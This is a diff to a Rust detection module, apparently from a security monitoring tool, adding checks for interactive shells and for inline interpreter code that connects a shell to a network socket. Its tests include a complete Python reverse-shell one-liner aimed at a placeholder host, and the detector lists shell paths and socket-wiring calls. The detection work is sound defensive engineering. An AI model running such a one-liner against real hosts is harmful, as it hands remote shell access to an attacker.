@@ -498,6 +498,47 @@ pub fn is_timestomp(name: &str, argv: &[String]) -> bool {
         })
 }
 
+/// Whether a shell is started interactive (`sh -i`, `bash -il`) to read commands, not with
+/// `-c` code.
+pub fn is_interactive_shell(argv: &[String]) -> bool {
+    let options: Vec<&str> = argv
+        .iter()
+        .skip(1)
+        .take_while(|a| a.starts_with('-') && !a.starts_with("--"))
+        .map(String::as_str)
+        .collect();
+    options.iter().any(|o| o[1..].contains('i')) && !options.iter().any(|o| o[1..].contains('c'))
+}
+
+/// Whether inline interpreter code wires a shell to a socket: it opens a socket and starts a
+/// shell through a pseudo-terminal or on duplicated descriptors (`pty.spawn("/bin/sh")`,
+/// `os.dup2(s.fileno(), 0)` then `/bin/sh -i`; ATT&CK T1059, T1095).
+pub fn inline_wires_shell_to_socket(name: &str, argv: &[String]) -> bool {
+    if !is_inline_code(name, argv) {
+        return false;
+    }
+    let code = argv
+        .iter()
+        .skip(1)
+        .map(String::as_str)
+        .collect::<Vec<_>>()
+        .join(" ");
+    let socket = code.contains("socket") || code.contains("Socket");
+    let wiring = code.contains("pty.spawn") || code.contains("dup2") || code.contains("fdopen");
+    let shell = [
+        "/bin/sh",
+        "/bin/bash",
+        "\"sh\"",
+        "'sh'",
+        "\"bash\"",
+        "'bash'",
+        "sh -i",
+    ]
+    .iter()
+    .any(|s| code.contains(s));
+    socket && wiring && shell
+}
+
 /// Shell and REPL history files.
 pub const HISTORY_FILES: &[&str] = &[
     ".bash_history",
@@ -793,5 +834,29 @@ mod tests {
             &argv(&["touch", "-r", "/etc/hosts", "x"])
         ));
         assert!(!is_timestomp("touch", &argv(&["touch", "x"])));
+    }
+
+    #[test]
+    fn shells_wired_to_the_network() {
+        assert!(is_interactive_shell(&argv(&["sh", "-i"])));
+        assert!(is_interactive_shell(&argv(&["bash", "-il"])));
+        assert!(!is_interactive_shell(&argv(&["bash", "-ic", "ll"])));
+        assert!(!is_interactive_shell(&argv(&["sh", "x.sh"])));
+        assert!(inline_wires_shell_to_socket(
+            "python3",
+            &argv(&[
+                "python3",
+                "-c",
+                "import socket,os,pty;s=socket.socket();s.connect((\"h\",1));[os.dup2(s.fileno(),f) for f in (0,1,2)];pty.spawn(\"/bin/sh\")"
+            ])
+        ));
+        assert!(!inline_wires_shell_to_socket(
+            "python3",
+            &argv(&[
+                "python3",
+                "-c",
+                "import socket; print(socket.gethostname())"
+            ])
+        ));
     }
 }
